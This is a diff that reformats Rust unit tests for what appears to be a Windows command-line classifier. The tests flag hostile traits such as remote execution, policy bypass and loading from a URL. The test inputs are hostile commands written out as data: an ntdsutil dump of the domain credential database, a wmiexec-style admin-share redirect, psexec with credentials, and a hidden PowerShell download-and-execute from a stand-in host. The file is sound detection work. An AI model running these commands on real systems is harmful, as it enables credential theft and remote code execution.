@@ -95,27 +95,60 @@ mod tests {
         let line = r#"cmd.exe /c "wmic process call create "cmd.exe /c mkdir C:\Windows\Temp\tmp & ntdsutil \"ac i ntds\" ifm""#;
         let programs = shape(line).programs;
         for program in ["cmd", "wmic", "ntdsutil"] {
-            assert!(programs.iter().any(|known| known == program), "{program} in {programs:?}");
+            assert!(
+                programs.iter().any(|known| known == program),
+                "{program} in {programs:?}"
+            );
         }
-        let wmiexec = shape(r#"cmd.exe /Q /c net group "domain admins" /dom 1> \\127.0.0.1\ADMIN$\__1684956600.123 2>&1"#);
-        assert!(wmiexec.traits.has(Traits::LOOPBACK_SHARE.with(Traits::ADMIN_SHARE).with(Traits::TO_SHARE)));
+        let wmiexec = shape(
+            r#"cmd.exe /Q /c net group "domain admins" /dom 1> \\127.0.0.1\ADMIN$\__1684956600.123 2>&1"#,
+        );
+        assert!(
+            wmiexec.traits.has(
+                Traits::LOOPBACK_SHARE
+                    .with(Traits::ADMIN_SHARE)
+                    .with(Traits::TO_SHARE)
+            )
+        );
         assert_eq!(wmiexec.programs, ["cmd", "net"]);
     }
 
     #[test]
     fn traits_are_told() {
         for (line, expected) in [
-            ("rundll32 x.dll,Run http://198.51.100.1/a", Traits::URL.with(Traits::URL_ADDRESS).with(Traits::LIBRARY_ARGUMENT)),
-            (r"expand \\files\share\a.bat C:\Users\Public\a.bat", Traits::UNC.with(Traits::PUBLIC_FOLDER).with(Traits::SCRIPT_ARGUMENT)),
+            (
+                "rundll32 x.dll,Run http://198.51.100.1/a",
+                Traits::URL
+                    .with(Traits::URL_ADDRESS)
+                    .with(Traits::LIBRARY_ARGUMENT),
+            ),
+            (
+                r"expand \\files\share\a.bat C:\Users\Public\a.bat",
+                Traits::UNC
+                    .with(Traits::PUBLIC_FOLDER)
+                    .with(Traits::SCRIPT_ARGUMENT),
+            ),
             (r"control.exe C:\x\a:evil.dll", Traits::STREAM),
-            ("psexec.exe \\\\ws14 -u corp\\adm -p secret cmd", Traits::REMOTE.with(Traits::CREDENTIALS)),
+            (
+                "psexec.exe \\\\ws14 -u corp\\adm -p secret cmd",
+                Traits::REMOTE.with(Traits::CREDENTIALS),
+            ),
             ("wmic /node:\"10.0.0.5\" process list", Traits::REMOTE),
-            ("powershell -w hidden -ep bypass -c \"iex (iwr http://a.example/x)\"", Traits::HIDDEN.with(Traits::POLICY_BYPASS).with(Traits::SCRIPT_TEXT)),
+            (
+                "powershell -w hidden -ep bypass -c \"iex (iwr http://a.example/x)\"",
+                Traits::HIDDEN
+                    .with(Traits::POLICY_BYPASS)
+                    .with(Traits::SCRIPT_TEXT),
+            ),
         ] {
             let traits = shape(line).traits;
             assert!(traits.has(expected), "{line}: {traits:?}");
         }
-        assert!(!shape(r"reg query HKLM\Software\Vendor /v Version").traits.any(Traits::STREAM.with(Traits::REMOTE)));
+        assert!(
+            !shape(r"reg query HKLM\Software\Vendor /v Version")
+                .traits
+                .any(Traits::STREAM.with(Traits::REMOTE))
+        );
     }
 
     #[test]
@@ -123,7 +156,15 @@ mod tests {
         let deep = "cmd /c \"".repeat(4_000);
         let long = "a^".repeat(200_000);
         let odd = "%a:~%%:~,% '+' [char] [char]99999999999 $env:[ -e -enc %%%%^";
-        for line in [deep.as_str(), long.as_str(), odd, "", "\"", "\\\\", "é\u{2013}enc ü"] {
+        for line in [
+            deep.as_str(),
+            long.as_str(),
+            odd,
+            "",
+            "\"",
+            "\\\\",
+            "é\u{2013}enc ü",
+        ] {
             let shape = shape(line);
             assert!(shape.skeleton.len() <= MAX_SKELETON + 8);
         }
